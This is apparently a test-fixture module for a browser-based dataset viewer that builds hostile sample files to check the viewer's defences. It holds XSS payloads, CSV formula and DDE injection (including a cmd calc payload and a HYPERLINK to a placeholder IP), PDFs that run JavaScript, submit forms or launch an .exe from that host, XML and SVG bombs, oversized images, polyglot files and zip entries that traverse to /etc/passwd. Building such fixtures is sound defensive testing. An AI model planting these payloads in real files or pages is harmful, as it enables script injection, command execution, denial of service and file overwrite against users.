// Datasets that attack the page, made by code. `tests/browser` and `tests/firefox` open each and show all of it.

import { storedZip } from "../linear/zip.js";
import { animated, bmp, gif, jpeg, pdf, png, svgBomb, webp, xmlBomb } from "./pictures.js";
import { GLYPHS, MARKUP } from "./texts.js";

const ELSEWHERE = "http://192.0.2.1";

const record = (messages, more = {}) => JSON.stringify({ input: { messages }, usage_output: null, ...more });
const user = (content) => ({ role: "user", content });

/** A text everywhere where a dataset holds text: as role, content, key, type, address, and as a line that is not JSON. */
function everywhere(text) {
  const key = text.slice(0, 5_000);
  const parts = [
    { type: "text", text },
    { type: "image_url", image_url: { url: key } },
    { type: key, [key]: key },
    { type: "file_ref", path: key },
  ];
  return [
    record([{ role: text, content: text }]),
    record([user(parts)], { [key]: text }),
    `{"input":{"messages":[{"role":"user","content":${JSON.stringify(text)}`,
    text,
  ].join("\n");
}

/** A file name that a file system takes. */
const safe = (name) => name.replace(/[^a-z0-9]+/gi, "-").slice(0, 40);

const text = (name, content) => ({ name, file: `${safe(name)}.jsonl`, bytes: () => Buffer.from(everywhere(content)) });

const plain = (name, file, bytes) => ({ name, file, bytes: () => Buffer.from(bytes()) });

/** An archive with these attachments, all of which the one record shows. `listed` are further entries. */
const archive = (name, attachments, listed = []) => ({
  name,
  file: `${safe(name)}.zip`,
  bytes: () => {
    const files = attachments().map(([entry, content]) => [`attachments/${entry}`, content]);
    const parts = files.map(([path]) => ({ type: "file_ref", path }));
    const named = listed.map(([path]) => ({ type: "file_ref", path }));
    return storedZip([["samples.jsonl", record([user([{ type: "text", text: "Look" }, ...parts, ...named])])], ...files, ...listed]);
  },
});

const VOLUME = [
  plain("20,000 messages in a record", "messages.jsonl", () =>
    record(Array.from({ length: 20_000 }, (_, n) => ({ role: n % 3 ? "user" : "tool", content: `<b>${n}</b>` }))),
  ),
  plain("50,000 parts in a message", "parts.jsonl", () =>
    record([user(Array.from({ length: 50_000 }, (_, n) => ({ type: n % 2 ? "text" : "x", text: `${n}` })))]),
  ),
  plain("20,000 unknown keys", "keys.jsonl", () =>
    record([user("x")], Object.fromEntries(Array.from({ length: 20_000 }, (_, n) => [`<i>${n}`, `${n}`]))),
  ),
  plain("a key of a megabyte", "key.jsonl", () => record([user("x")], { ["<k>".repeat(350_000)]: 1 })),
  plain("a megabyte of escaped letters", "escaped.jsonl", () => record([{ role: "\u202e".repeat(300_000), content: "\u0001".repeat(150_000) }])),
  plain("100,000 lines of markup", "lines.jsonl", () => "<script>self.pwned=1</script>\n".repeat(100_000)),
  plain("a table of 5,000 columns", "columns.csv", () =>
    [`query_id,query_text,relevant_doc_ids,${Array.from({ length: 5_000 }, (_, n) => `<b>${n}`).join(",")}`, `=1+1,<img>,@x${",=cmd".repeat(5_000)}`].join("\n"),
  ),
  plain("formulas in a table", "formulas.csv", () => `query_id,query_text,relevant_doc_ids\n=HYPERLINK("${ELSEWHERE}"),+cmd|'/C calc'!A0,@SUM(1)\n`),
  plain("a document of nested lists", "nested.json", () => "[".repeat(200_000)),
  plain("an HTML file with the name of a dataset", "page.jsonl", () => `<!doctype html><html><body onload="self.pwned=1"><script>self.pwned=1</script>`),
];

const HTML = `<!doctype html><body onload="top.pwned=1"><script>top.pwned=1</script><img src="${ELSEWHERE}/x.png">`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="top.pwned=1"><script>top.pwned=1</script><image href="${ELSEWHERE}/x.png"/></svg>`;
const JAVASCRIPT = "/S/JavaScript/JS(app.alert\\(1\\);app.launchURL\\('http://192.0.2.1/js'\\);this.submitForm\\('http://192.0.2.1/f'\\))";

const ARCHIVES = [
  archive("HTML attached", () => [["a.html", HTML], ["b.xhtml", HTML], ["c.png", HTML], ["d.pdf", HTML], ["e.txt", HTML]]),
  archive("SVG attached", () => [["a.svg", SVG], ["b.png", SVG], ["c.svg", `<?xml-stylesheet href="${ELSEWHERE}/x.css"?>${SVG}`]]),
  archive("an SVG that grows", () => [["a.svg", svgBomb()], ["b.png", svgBomb()]]),
  archive("an XML that grows", () => [["a.xml", xmlBomb()], ["b.xml", `<?xml-stylesheet type="text/xsl" href="${ELSEWHERE}/x.xsl"?><x/>`]]),
  archive("a PDF with scripts", () => [["a.pdf", pdf(`/OpenAction<<${JAVASCRIPT}>>/AA<</WC<<${JAVASCRIPT}>>>>/Names<</JavaScript<</Names[(a)<<${JAVASCRIPT}>>]>>>>`)]]),
  archive("a PDF that opens addresses", () => [
    ["a.pdf", pdf(`/OpenAction<</S/URI/URI(${ELSEWHERE}/open)>>/AcroForm<</XFA(${ELSEWHERE})/Fields[]>>`)],
    ["b.pdf", pdf(`/OpenAction<</S/Launch/F(${ELSEWHERE}/x.exe)>>/AA<</DC<</S/GoToR/F(${ELSEWHERE}/r.pdf)/D[0/Fit]>>>>`)],
  ]),
  archive("a PDF that is HTML too", () => [["a.pdf", `%PDF-1.4\n${HTML}`], ["b.pdf", `${HTML}\n${pdf("")}`]]),
  archive("a PDF of a million pages", () => [["a.pdf", pdf("", "").replace("/Count 1>>", `/Count 1000000>>`).replace("[3 0 R]", `[${"3 0 R ".repeat(100_000)}]`)]]),
  archive("a PNG of 30,000 pixels square", () => [["a.png", png(30_000)]]),
  archive("a GIF of 30,000 pixels square", () => [["a.gif", gif(30_000)], ["b.gif", gif(65_535)]]),
  archive("a JPEG of 30,000 pixels square", () => [["a.jpg", jpeg(30_000)], ["b.jpg", jpeg(65_500)]]),
  archive("a BMP of 30,000 pixels square", () => [["a.bmp", bmp(30_000)]]),
  archive("a WebP of 16,384 pixels square", () => [["a.webp", webp(16_384)]]),
  archive("a PNG of 200 frames", () => [["a.png", animated(200)]]),
  archive("images of nothing", () => [["a.png", png(30_000).subarray(0, 60)], ["b.gif", gif(0)], ["c.jpg", jpeg(1).subarray(0, 8)], ["d.bmp", bmp(2 ** 31)]]),
  archive("an image that is HTML too", () => [["a.gif", `GIF89a/*${HTML}*/=1;`], ["b.jpg", Buffer.concat([jpeg(2), Buffer.from(HTML)])]]),
  archive("six megabytes of escaped letters", () => [["a.txt", "\u202e".repeat(2_000_000)], ["b.txt", "\u0001\n".repeat(1_000_000)]]),
  archive("a text of one line", () => [["a.txt", "w".repeat(7_000_000)], ["b.txt", "w ".repeat(3_500_000)]]),
  archive("five million lines", () => [["a.txt", "\n".repeat(5_000_000)], ["b.md", "# <b>\n".repeat(1_000_000)]]),
  archive("names that leave the folder", () => [["a.txt", "a"]], [["../../etc/passwd", "x"], ["attachments/../../x.txt", "x"], ["..\\..\\x.txt", "x"]]),
  archive("names of other places", () => [["a.txt", "a"]], [["/etc/passwd", "x"], ["C:\\x.txt", "x"], ["\\\\192.0.2.1\\x", "x"], ["http://192.0.2.1/x", "x"]]),
  archive("names of markup", () => Object.values(MARKUP).slice(0, 20).map((markup, n) => [`${n}${markup}.txt`, markup])),
  archive("names of strange letters", () => Object.values(GLYPHS).map((glyphs, n) => [`${n}${glyphs.slice(0, 300)}.txt`, glyphs.slice(0, 60_000)])),
  archive("5,000 attachments", () => Array.from({ length: 5_000 }, (_, n) => [`<b>${n}.txt`, `${n}`])),
];

/** Names of a dataset or two of each kind. */
const EACH_KIND = [
  "script",
  "Markdown of a page",
  "names of the page's own objects",
  "order reversed",
  "60,000 invisible letters",
  "20,000 messages in a record",
  "100,000 lines of markup",
  "HTML attached",
  "a PDF with scripts",
  "a PNG of 30,000 pixels square",
  "names of markup",
];

/** Every dataset: what it does, its file name, and its bytes, made anew at each call. */
export const DATASETS = [
  ...Object.entries(MARKUP).map(([name, content]) => text(name, content)),
  ...Object.entries(GLYPHS).map(([name, content]) => text(name, content)),
  ...VOLUME,
  ...ARCHIVES,
];

/** One or two of each kind. */
export const OF_EACH_KIND = DATASETS.filter(({ name }) => EACH_KIND.includes(name));
